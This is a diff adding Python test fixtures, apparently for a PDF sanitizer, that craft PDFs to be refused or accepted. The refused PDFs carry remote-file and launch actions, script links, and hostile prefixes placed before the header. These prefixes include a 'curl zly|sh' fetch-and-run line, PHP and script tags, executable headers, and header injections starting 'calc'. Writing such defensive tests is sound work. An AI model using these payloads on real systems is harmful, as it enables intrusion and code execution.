@@ -1,0 +1,218 @@
+"""PDF files that name something outside, and what may stand before their beginning."""
+
+from functools import partial
+
+from pikepdf import Array, Dictionary, Name, String
+
+from common.files.codes import Code
+from tests.common.files import craft_office, hostile
+from tests.common.files import craft_pdf as craft
+from tests.common.files.craft_pdf import annotated, attached, on_click, on_opening, pdf
+
+NET, SERVER = "http://zly.example/a", r"\\zly\dane\a.pdf"
+ELSEWHERE = {
+    "the net": "http://zly.example/a.pdf",
+    "a server": SERVER,
+    "a server by slashes": "//zly/a.pdf",
+    "a disk": r"C:\Windows\a.pdf",
+    "a disk of PDF": "/C/Windows/a.pdf",
+    "an address of a file": "file:///C:/a.pdf",
+    "an address of a server's file": "file://zly/a.pdf",
+    "a folder of a server above": r"..\..\\zly\a.pdf",
+}
+
+
+def _at_root(**values):
+    return pdf(lambda document: document.Root.update({f"/{key}": value for key, value in values.items()}))
+
+
+def _drawn(**values):
+    """A drawing of a page."""
+
+    def change(document):
+        form = craft.stream(document, b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), **values)
+        document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=form))
+
+    return pdf(change)
+
+
+def _to_sign(apart=False, value=None, **wishes):
+    """A field that is to be signed, with what it wants of the signature; `apart`: in an object of its own."""
+
+    def change(document):
+        wanted = Dictionary(Type=Name.SV, **wishes)
+        held = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T=String("Podpis"), Rect=[0, 0, 9, 9])
+        held.SV = document.make_indirect(wanted) if apart else wanted
+        held.Lock = Dictionary(Type=Name.SigFieldLock, Action=Name.Include, Fields=Array([String("data")]))
+        if value is not None:
+            held.V = value
+        held = document.make_indirect(held)
+        document.Root.AcroForm = Dictionary(Fields=Array([held]), SigFlags=3)
+        document.pages[0].obj.Annots = Array([held])
+
+    return pdf(change)
+
+
+def _portfolio(**values):
+    def change(document):
+        document.Root.Collection = Dictionary(
+            Type=Name.Collection, View=Name.D,
+            Schema=Dictionary(nazwa=Dictionary(Type=Name.CollectionField, Subtype=Name.F, N=String("Nazwa"))),
+            **values,
+        )  # fmt: skip
+        held = craft.stream(document, pdf(), Type=Name.EmbeddedFile)
+        specification = Dictionary(Type=Name.Filespec, F=String("a.pdf"), UF=String("a.pdf"), EF=Dictionary(F=held))
+        tree = Dictionary(Names=Array([String("a.pdf"), document.make_indirect(specification)]))
+        document.Root.Names = Dictionary(EmbeddedFiles=tree)
+
+    return pdf(change)
+
+
+def _behind(before):
+    return lambda: before + pdf()
+
+
+TIME = Dictionary(URL=String("http://zly.example/tsa"), Ff=1)
+SCRIPTED = on_opening("JavaScript", JS=String("app.alert(1)"))
+PORTFOLIO = Dictionary(Type=Name.Navigator, SWF=String("a.swf"), Name=String("a"))
+
+REFUSED = {
+    **{
+        f"other file of {where}": (partial(on_click, "GoToR", F=String(target)), Code.PDF_OTHER_FILE)
+        for where, target in ELSEWHERE.items()
+    },
+    **{
+        f"other file of {where}, described": (
+            partial(on_click, "GoToR", F=Dictionary(Type=Name.Filespec, F=String("a.pdf"), UF=String(target))),
+            Code.PDF_OTHER_FILE,
+        )
+        for where, target in ELSEWHERE.items()
+    },
+    "file within of another file": (
+        partial(on_click, "GoToE", F=String(SERVER), T=Dictionary(R=Name.C)),
+        Code.PDF_OTHER_FILE,
+    ),
+    "program of a server": (
+        partial(on_click, "Launch", Win=Dictionary(F=String(r"\\zly\a.exe"))),
+        Code.PDF_PROGRAM,
+    ),
+    "thread of another file": (partial(on_click, "Thread", F=String(SERVER)), Code.PDF_OTHER_FILE),
+    "file that belongs to it, of the net": (
+        partial(_at_root, AF=Array([Dictionary(Type=Name.Filespec, F=String(NET))])),
+        Code.PDF_OTHER_FILE,
+    ),
+    "file that belongs to it, of the net, untyped": (
+        partial(_at_root, AF=Array([Dictionary(FS=Name.URL, F=String(NET))])),
+        Code.PDF_OTHER_FILE,
+    ),
+    "file of an annotation, of a server": (
+        partial(annotated, Subtype=Name.FileAttachment, FS=String(SERVER)),
+        Code.PDF_OTHER_FILE,
+    ),
+    "file of an annotation, of the net": (
+        partial(annotated, Subtype=Name.FileAttachment, FS=Dictionary(F=String(NET))),
+        Code.PDF_OTHER_FILE,
+    ),
+    "links that begin with a script": (
+        partial(_at_root, URI=Dictionary(Base=String("javascript:app.alert(1)//"))),
+        Code.LINK,
+    ),
+    "links that begin with a server": (partial(_at_root, URI=Dictionary(Base=String(r"\\zly\dane"))), Code.LINK),
+    "links that begin with a disk": (partial(_at_root, URI=Dictionary(Base=String("file:///C:/"))), Code.LINK),
+    "picture that another takes the place of": (
+        partial(_drawn, OPI=Dictionary({"/2.0": Dictionary(Type=Name.OPI, F=String(SERVER))})),
+        Code.PDF_OTHER_FILE,
+    ),
+    "picture that another takes the place of, in the old way": (
+        partial(_drawn, OPI=Dictionary({"/1.3": Dictionary(F=Dictionary(F=String("a.tif")))})),
+        Code.PDF_OTHER_FILE,
+    ),
+    "page of another file": (
+        partial(_drawn, Ref=Dictionary(F=Dictionary(F=String("a.pdf")), Page=0)),
+        Code.PDF_OTHER_FILE,
+    ),
+    "drawing of another file": (partial(_drawn, F=String("a.bin")), Code.PDF_OTHER_FILE),
+    "colours of another file": (
+        partial(_at_root, OutputIntents=Array([Dictionary(S=Name.GTS_PDFX, DestOutputProfileRef=Dictionary())])),
+        Code.PDF_OTHER_FILE,
+    ),
+    "signature with the time of a server": (partial(_to_sign, TimeStamp=TIME), Code.PDF_SENDS),
+    "signature with the time of a server, apart": (partial(_to_sign, apart=True, TimeStamp=TIME), Code.PDF_SENDS),
+    "signature with a certificate of a server": (
+        partial(_to_sign, Cert=Dictionary(Type=Name.SVCert, URL=String(NET), URLType=Name.Browser)),
+        Code.PDF_SENDS,
+    ),
+    "signature with an address": (partial(_to_sign, URL=String(NET)), Code.PDF_SENDS),
+    "portfolio with a program": (partial(_portfolio, Navigator=PORTFOLIO), Code.PDF_PORTFOLIO),
+    **{
+        f"{words!r} before the PDF": (_behind(words), Code.PDF_CARRIES)
+        for words in (
+            b"<script>alert(1)</script>\n", b"\xef\xbb\xbf<script src=//zly></script>", b"<?php system(1);?>\n",
+            b"#!/bin/sh\ncurl zly|sh\n", b"\n#!/bin/sh\n", b"MZ\x90\x00", b"\xef\xbb\xbfMZ\x90\x00", b"\x7fELF\x02",
+            b"alert(1);/*", b"=1;alert(1)//", b"@echo off\r\nstart calc\r\nrem ", b"start calc & rem ", b"import os\n#",
+            b"CreateObject(\"WScript.Shell\")\n'", b"GIF89a", b"BM", b"{\\rtf1 ", b"%!PS-Adobe-3.0\n", b"calc\r\n",
+            b"Content-Type: text/html\r\n\r\n<html>", b"X-A: a; calc\r\n", b"X-A: `calc`\r\n", b"X-A: a | sh\n",
+            b"javascript:alert(1)\n", b"Date: alert(1)\n", b"@PJL X <script>\r\n", b"Content-Type: a\r\nalert(1)\r\n",
+            b"\x1b%-12345X@PJL JOB\r\nMZ\x90\x00", b"\x01\x02\x03\x04", b"Rar!\x1a\x07",
+        )
+    },
+    "attached PDF with a script behind a line end": (lambda: attached(b"\n" + SCRIPTED, "a.pdf"), Code.PDF_ATTACHMENT),
+    "attached PDF with a script behind a mark, without its ending": (
+        lambda: attached(b"\xef\xbb\xbf" + SCRIPTED, "a.bin"),
+        Code.PDF_ATTACHMENT,
+    ),
+    "attached PDF behind words": (lambda: attached(b"calc\r\n" + pdf(), "a.pdf"), Code.PDF_ATTACHMENT),
+}  # fmt: skip
+
+LETTER = (
+    b"From: urzad@gmina.pl\r\nDate: Mon, 2 Feb 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
+    b'Content-Type: application/pdf; name="uchwala nr 1.pdf"\r\nContent-Transfer-Encoding: binary\r\n'
+    b'Content-Disposition: attachment;\r\n filename="uchwala.pdf"; size=1234\r\nX-Mailer: Poczta 2.0 (Windows)\r\n\r\n'
+)
+PRINTER = (
+    b"\x1b%-12345X@PJL JOB NAME=\"Uchwa\xb3a\"\r\n@PJL SET RESOLUTION=600\r\n@PJL SET DUPLEX=ON\r\n"
+    b"@PJL ENTER LANGUAGE=PDF\r\n"
+)  # fmt: skip
+
+TAKEN = {
+    "with a link to a document beside, described": partial(
+        on_click, "GoToR", F=Dictionary(Type=Name.Filespec, F=String("a.pdf"), UF=String("uchwała.pdf")), D=Array([0])
+    ),
+    "with a link to a document in a folder below": partial(on_click, "GoToR", F=String("zalaczniki/a.pdf")),
+    "with a link to a file of the office": partial(on_click, "URI", URI=String("file:///S:/Uchwaly/a.pdf")),
+    "with links that begin with a page": partial(_at_root, URI=Dictionary(Base=String("https://gmina.pl/bip/"))),
+    "with links that begin with nothing": partial(_at_root, URI=Dictionary(Base=String(""))),
+    "with a drawing": _drawn,
+    "with a drawing that says where it comes from": partial(
+        _drawn, PieceInfo=Dictionary(Program=Dictionary(Private=String(r"\\serwer\rysunki\a.tif")))
+    ),
+    "with colours within": lambda: pdf(
+        lambda d: setattr(
+            d.Root,
+            "OutputIntents",
+            Array(
+                [Dictionary(S=Name.GTS_PDFA1, DestOutputProfile=craft.stream(d, b"x", N=3), RegistryName=String(NET))]
+            ),
+        )
+    ),
+    "to be signed, and then locked": partial(_to_sign, Ff=1, Reasons=Array([String("Akceptuję")])),
+    "to be signed with a digest of a kind": partial(_to_sign, apart=True, DigestMethod=Array([String("SHA256")])),
+    "signed, with the time of a server once wanted": partial(
+        _to_sign, TimeStamp=TIME, value=Dictionary(Type=Name.Sig, Contents=String("\x00" * 64))
+    ),
+    "portfolio": _portfolio,
+    "a letter's head before the head": _behind(LETTER),
+    "a server's head before the head": _behind(
+        b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/pdf\r\nContent-Length: 1234\r\n\r\n"
+    ),
+    "a border of a letter before the head": _behind(b"--=_NextPart_000\r\nContent-Type: application/pdf\r\n\r\n"),
+    "a printer's job before the head": _behind(PRINTER),
+    "a printer's mark before the head": _behind(b"\x1b%-12345X"),
+    "a printer's reset before the head": _behind(b"\x1bE\x1b%-12345X@PJL ENTER LANGUAGE = PDF\n"),
+    "a mark and line ends before the head": _behind(b"\xef\xbb\xbf\r\n \t\r\n"),
+    "zeros before the head": _behind(b"\x00" * 600),
+    "attached PDF behind a mark of its encoding": lambda: attached(b"\xef\xbb\xbf" + pdf(), "zalacznik.pdf"),
+    "attached text about PDF": partial(attached, b"Plik zaczyna sie od znaku %PDF-1.7 i tyle.", "notatka.txt"),
+    "attached picture beside": lambda: attached(hostile.picture("JPEG"), "herb.jpg", road="annotation"),
+    "attached document described twice": lambda: attached(craft_office.docx(), "zrodlo.docx", road="af"),
+}
